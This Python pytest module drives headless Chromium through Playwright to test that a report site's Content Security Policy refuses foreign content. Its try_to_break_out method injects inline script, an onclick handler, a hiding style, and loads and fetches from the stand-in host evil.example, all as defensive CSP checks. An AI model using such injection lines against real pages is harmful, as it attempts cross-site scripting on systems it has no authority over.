"""Chromium for tests, as people meet the pages: headless, over the DevTools protocol."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Page,
    Request,
    expect,
    sync_playwright,
)

FLAGS = ("--no-sandbox", "--disable-gpu", "--disable-background-networking")
NAMES = ("chromium", "chromium-browser", "google-chrome")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """The machine's own Chromium; tests that need it are skipped where there is none.

    Of one module: while it is open this thread has a running event loop, which tests of asyncio cannot share.
    """
    found = next(filter(None, map(shutil.which, NAMES)), None)
    if found is None:
        pytest.skip("no chromium on PATH: apt-get install chromium")
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=found, headless=True, args=list(FLAGS))
        yield launched
        launched.close()


@dataclass
class Visit:
    """One reader: a page, and everything that must not have happened on it."""

    page: Page
    base: str
    trouble: list[str] = field(default_factory=list)

    def open(self, path: str = "index.html") -> Page:
        """Go to a page of the site and wait until its scripts have begun."""
        self.page.goto(self.base + path)
        return self.page

    def ready(self) -> Page:
        """The first page, when it can be searched."""
        page = self.open()
        page.wait_for_function("document.documentElement.dataset.ready === 'yes'")
        return page

    def at(self, unit: str) -> None:
        """The page of `unit` has come, and its keys work."""
        expect(self.page.locator("h1")).to_contain_text(unit)
        self.page.wait_for_load_state("domcontentloaded")

    def check_that_nothing_breaks_out(self) -> None:
        """The policy of the page refuses whatever is not its own, and names it."""
        refused = "\n".join(self.try_to_break_out())
        for directive in ("script-src", "img-src", "style-src", "connect-src"):
            assert directive in refused, refused
        assert "evil.example/x.js" in refused
        assert self.page.evaluate("window.pwned") is None
        assert self.page.locator("main").is_visible()

    def try_to_break_out(self) -> list[str]:
        """What the browser refuses when the page tries to run what is not its own, or to ask another host."""
        self.page.evaluate("""async () => {
            const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
            add("script", { textContent: "window.pwned = 1" });
            add("script", { src: "http://evil.example/x.js" });
            add("img", { src: "http://evil.example/x.png" });
            add("iframe", { src: "http://evil.example/" });
            add("style", { textContent: "main { display: none }" });
            const button = document.createElement("button");
            button.setAttribute("onclick", "window.pwned = 1");
            document.body.append(button);
            button.click();
            await fetch("http://evil.example/").catch(() => {});
            await new Promise((done) => setTimeout(done, 200));
        }""")
        said, self.trouble = self.trouble, []
        return [text for text in said if "Content Security Policy" in text]

    def check(self) -> None:
        """Nothing ran, nothing failed, and nothing was asked of anybody else."""
        assert self.page.evaluate("window.pwned") is None
        assert self.trouble == []


def visit(browser: Browser, base: str, *, width: int = 1400, scheme: str = "light") -> Visit:
    """A fresh reader of the site at `base`."""
    context: BrowserContext = browser.new_context(
        viewport={"width": width, "height": 900}, color_scheme="dark" if scheme == "dark" else "light"
    )
    context.set_default_timeout(15_000)
    found = Visit(context.new_page(), base)

    def console(message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            found.trouble.append(f"console: {message.text}")

    def request(asked: Request) -> None:
        if not asked.url.startswith(base):
            found.trouble.append(f"request: {asked.url}")

    found.page.on("console", console)
    found.page.on("pageerror", lambda error: found.trouble.append(f"error: {error}"))
    found.page.on("dialog", lambda dialog: (found.trouble.append("dialog"), dialog.dismiss()))
    found.page.on("request", request)
    return found


def site_url(folder: Path) -> str:
    """A report on the disk as the browser opens it."""
    return f"{folder.resolve().as_uri()}/"
